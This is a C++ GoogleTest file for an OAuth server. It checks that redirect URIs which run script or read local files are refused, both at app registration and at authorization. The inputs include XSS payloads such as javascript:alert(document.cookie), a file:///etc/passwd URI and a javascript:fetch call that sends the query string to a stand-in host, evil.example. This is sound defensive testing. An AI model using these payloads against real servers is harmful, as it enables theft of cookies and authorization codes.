// Redirect URIs that run script or read local data are refused at app
// registration (422, Mastodon's shape) and at authorization, where an app
// registered before the rule existed might still name one. In process, so the
// test can plant such an app in the store.
#include <gtest/gtest.h>

#include "support/app_fixture.h"
#include "util/crypto.h"

namespace publius::testing {
namespace {

class OAuthRedirectUriTest : public AppFixture {};

TEST_F(OAuthRedirectUriTest, RegistrationRefusesSchemesThatRunScriptOrReadFiles) {
  for (const std::string uri :
       {"javascript:alert(document.cookie)", "JavaScript://%0aalert(1)",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd"}) {
    auto r = send(browser_request("POST", "/api/v1/apps", "",
                                  "client_name=evil&redirect_uris=" + http::url_encode(uri)));
    EXPECT_EQ(r.status, 422) << uri;
    EXPECT_EQ(r.body, R"({"error":"Validation failed: Redirect URI is forbidden by the server"})")
        << uri;
  }
  // One bad URI among good ones refuses the whole registration.
  auto mixed = send(browser_request(
      "POST", "/api/v1/apps", "",
      "client_name=mixed&redirect_uris=" + http::url_encode("myapp://cb\njavascript:alert(1)")));
  EXPECT_EQ(mixed.status, 422);
  // Native apps' own schemes and the out-of-band URN stay welcome.
  auto native = send(browser_request("POST", "/api/v1/apps", "",
                                     "client_name=native&redirect_uris=" +
                                         http::url_encode("myapp://cb urn:ietf:wg:oauth:2.0:oob")));
  EXPECT_EQ(native.status, 200) << native.body;
}

TEST_F(OAuthRedirectUriTest, AuthorizationRefusesAnAppRegisteredWithSuchAUri) {
  ASSERT_FALSE(session_for("clicker").empty());
  domain::App app;
  app.name = "Registered before the rule";
  app.redirect_uris = {"javascript:fetch('//evil.example/?'+location.search)"};
  app.scopes = "read";
  app.client_id = random_token(32);
  app.client_secret = sha256_hex(random_token(32));
  ASSERT_TRUE(store_->create_app(app).ok());
  const std::string query = "client_id=" + app.client_id +
                            "&redirect_uri=" + http::url_encode(app.redirect_uris[0]) +
                            "&response_type=code";
  auto page = send(browser_request("GET", "/oauth/authorize?" + query));
  EXPECT_EQ(page.status, 400);
  EXPECT_EQ(page.body.find("<form"), std::string::npos) << "no sign-in form for such an app";
  auto signed_in = send(browser_request("POST", "/oauth/authorize", "",
                                        query + "&username=clicker&password=password123"));
  EXPECT_EQ(signed_in.status, 400);
  EXPECT_EQ(header(signed_in, "Location"), "") << "never redirected to script";
}

}  // namespace
}  // namespace publius::testing
